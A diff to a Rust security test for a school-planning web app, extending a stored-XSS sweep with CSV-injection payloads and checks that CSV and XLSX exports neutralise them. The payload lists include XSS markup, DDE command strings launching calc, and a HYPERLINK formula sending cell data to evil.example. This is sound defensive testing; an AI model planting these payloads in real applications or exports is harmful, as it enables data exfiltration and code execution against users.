@@ -1,7 +1,9 @@
 //! XSS: payloads stored through the real forms in every text field, then every page fetched (as
 //! staff, and the public pages anonymously) must show them escaped and never raw. The forms and
 //! their fields are read from the pages themselves (`<form method="post">` and the `name=` of its
-//! inputs), so a new form or field joins without a change here.
+//! inputs), so a new form or field joins without a change here. The same sweep stores spreadsheet
+//! formulas, and every CSV and XLSX export of the route table must neutralise them (CSV) or keep
+//! them as plain strings (XLSX).
 
 use crate::both;
 use crate::harness::{Client, Res, TestApp, escape};
@@ -16,6 +18,23 @@ const PAYLOADS: [&str; 6] = [
     "</textarea><svg onload=alert(1)>",
     "Tekst <b onmouseover=alert(1)>fet</b> [lenke](javascript:alert(1)) <iframe src=x></iframe>",
 ];
+
+/// Text a spreadsheet would run as a formula if a CSV cell began with it (OWASP, "CSV Injection").
+/// The forms get them in turn with the markup payloads.
+const FORMULAS: [&str; 6] = [
+    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klikk\")",
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+2",
+    "\r=2+3",
+];
+
+/// The `i`-th payload a text field gets: the markup payloads and the formulas in turn.
+fn payload_at(i: usize) -> &'static str {
+    let i = i % (PAYLOADS.len() + FORMULAS.len());
+    PAYLOADS.get(i).copied().unwrap_or_else(|| FORMULAS[i - PAYLOADS.len()])
+}
 
 /// Markup that would run if it reached a page unescaped: any of these means a tag or attribute was
 /// injected. (The payloads' text escaped, e.g. `&#60;img src=x onerror=…`, is harmless, and
@@ -88,7 +107,7 @@ fn post_forms(html: &str, next_payload: &mut usize) -> Vec<FoundForm> {
             fields.push(name.to_owned());
             originals.push(original);
             *next_payload += 1;
-            PAYLOADS[*next_payload % PAYLOADS.len()].to_owned()
+            payload_at(*next_payload).to_owned()
         };
         for tag in form.split('<').skip(1) {
             let tag_end = tag.find('>').unwrap_or(tag.len());
@@ -233,8 +252,16 @@ both!(stored_payloads_are_escaped_on_every_page, |t: TestApp| async move {
         assert!(stored.iter().any(|s| s.contains(needle)), "no payload stored through a form at {needle}");
     }
 
-    // School X's plan, now full of payloads, goes public (its lifecycle has its own tests).
+    // Every formula also becomes a goal of school X's plan through the element form, so that each
+    // reaches an export whichever fields the turns above gave it.
     let plan = scene.unit_objects(Subject::SystemAdmin, Scope::Own).plan;
+    for formula in FORMULAS {
+        let c = &mut scene.subjects[admin].1;
+        let fields = [("kind", "main_goal"), ("text", formula), ("parent_id", "")];
+        c.post(&format!("/plans/{plan}/elements"), &fields).await.expect(303);
+    }
+
+    // School X's plan, now full of payloads, goes public (its lifecycle has its own tests).
     rodtrad_store::on_db!(&t.db, pool => {
         sqlx::query("UPDATE plans SET status = 'adopted', published = $2 WHERE id = $1")
             .bind(plan).bind(true).execute(pool).await.unwrap();
@@ -268,7 +295,93 @@ both!(stored_payloads_are_escaped_on_every_page, |t: TestApp| async move {
     for (payload, seen) in PAYLOADS.iter().zip(seen) {
         assert!(seen, "payload {payload:?} was never shown escaped");
     }
+    exports_neutralise_formulas(&t, &mut scene).await;
 });
+
+/// Whether a spreadsheet would run a CSV cell as a formula: it begins with `=`, `+`, `@`, a tab or a
+/// carriage return, or with `-` without being a number (a negative value the application wrote).
+fn runs_as_formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '@', '\t', '\r'])
+        || (cell.starts_with('-') && cell.replace(',', ".").parse::<f64>().is_err())
+}
+
+/// Every CSV and XLSX export of the route table, filled for the scene and fetched by the first
+/// subject allowed to read it: no CSV cell may run as a formula and no XLSX cell may hold one, and
+/// each formula stored by the sweep must come back, neutralised in a CSV file and verbatim in an
+/// XLSX sheet, so that their absence means something.
+async fn exports_neutralise_formulas(t: &TestApp, scene: &mut Scene) {
+    use calamine::{Reader, Xlsx};
+    let readers = [Subject::SystemAdmin, Subject::Management, Subject::Auditor];
+    // What the forms stored: leading tabs and line breaks are trimmed by the input parsing.
+    let stored: Vec<String> = FORMULAS.iter().map(|f| f.trim().to_owned()).collect();
+    let mut in_csv = vec![false; stored.len()];
+    let mut in_xlsx = vec![false; stored.len()];
+    let mut problems = Vec::new();
+    let mut checked = Vec::new();
+    for route in rodtrad_web::route_table().iter().filter(|r| r.method == Method::GET) {
+        let csv = route.path.ends_with(".csv");
+        if !csv && !route.path.ends_with(".xlsx") {
+            continue;
+        }
+        let mut answered = None;
+        for subject in readers {
+            let path = scene.fill(t, route, subject, Scope::Own).await;
+            let index = scene.subjects.iter().position(|(s, _)| *s == subject).unwrap();
+            let res = scene.subjects[index].1.get(&path).await;
+            if res.status.is_success() {
+                answered = Some((path, res));
+                break;
+            }
+        }
+        let Some((path, res)) = answered else {
+            problems.push(format!("{}: no subject could fetch it", route.path));
+            continue;
+        };
+        if csv {
+            let mut reader =
+                csv::ReaderBuilder::new().delimiter(b';').has_headers(false).flexible(true).from_reader(&res.bytes[..]);
+            for record in reader.records() {
+                let record = record.unwrap_or_else(|e| panic!("{path}: not CSV: {e}"));
+                for (i, cell) in record.iter().enumerate() {
+                    let cell = if i == 0 { cell.trim_start_matches('\u{feff}') } else { cell };
+                    if runs_as_formula(cell) {
+                        problems.push(format!("{path}: cell {cell:?} runs as a formula"));
+                    }
+                    for (f, seen) in stored.iter().zip(in_csv.iter_mut()) {
+                        *seen |= cell == format!("'{f}");
+                    }
+                }
+            }
+        } else {
+            let mut book: Xlsx<_> =
+                Xlsx::new(std::io::Cursor::new(res.bytes.clone())).unwrap_or_else(|e| panic!("{path}: not XLSX: {e}"));
+            for sheet in book.sheet_names() {
+                let formulas = book.worksheet_formula(&sheet).unwrap();
+                if let Some((r, c, f)) = formulas.used_cells().find(|(_, _, f)| !f.is_empty()) {
+                    problems.push(format!("{path}: cell ({r}, {c}) holds the formula {f:?}"));
+                }
+                let range = book.worksheet_range(&sheet).unwrap();
+                for (_, _, cell) in range.used_cells() {
+                    let calamine::Data::String(text) = cell else {
+                        problems.push(format!("{path}: cell {cell:?} is not a string"));
+                        continue;
+                    };
+                    for (f, seen) in stored.iter().zip(in_xlsx.iter_mut()) {
+                        *seen |= text == f;
+                    }
+                }
+            }
+        }
+        checked.push(path);
+    }
+    assert!(problems.is_empty(), "{}", problems.join("\n"));
+    assert!(checked.len() >= 6, "only {checked:?}");
+    for ((formula, csv), xlsx) in stored.iter().zip(in_csv).zip(in_xlsx) {
+        assert!(csv, "formula {formula:?} was never seen neutralised in {checked:?}");
+        assert!(xlsx, "formula {formula:?} was never seen verbatim in an XLSX export");
+    }
+    eprintln!("exports checked for formulas: {}", checked.join(", "));
+}
 
 /// Links to pages under `prefix` found in `html`, without their fragment.
 fn links_under(html: &str, prefix: &str) -> Vec<String> {
